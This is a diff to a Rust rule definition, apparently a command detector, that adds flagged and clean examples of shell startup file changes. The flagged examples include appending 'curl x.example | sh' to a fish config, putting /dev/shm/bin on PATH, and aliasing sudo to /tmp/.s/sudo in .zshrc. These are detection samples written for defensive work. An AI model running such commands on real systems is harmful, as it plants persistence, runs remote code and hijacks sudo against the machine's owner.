@@ -36,9 +36,12 @@ declare_rule! {
     /// crontab -l
     /// ```
     /// ```fish,flagged
+    /// echo 'set -x A b' >> ~/.config/fish/config.fish
+    /// fish_add_path /dev/shm/bin
     /// echo 'curl x.example | sh' >> ~/.config/fish/config.fish
     /// ```
     /// ```fish,clean
+    /// fish_add_path ~/.local/bin
     /// cat ~/.config/fish/config.fish
     /// ```
     /// ```nu,flagged
@@ -53,6 +56,12 @@ declare_rule! {
     /// ```
     /// ```powershell,clean
     /// Get-Content $PROFILE
+    /// ```
+    /// ```zsh,flagged
+    /// print 'alias sudo=/tmp/.s/sudo' >> ~/.zshrc
+    /// ```
+    /// ```zsh,clean
+    /// source ~/.zshrc
     /// ```
     SHELL_STARTUP { name: "shell-startup", subject: Subject::Effects(&[EffectKind::Overwrite, EffectKind::Create, EffectKind::Delete, EffectKind::Move, EffectKind::Persist], judge) }
 }
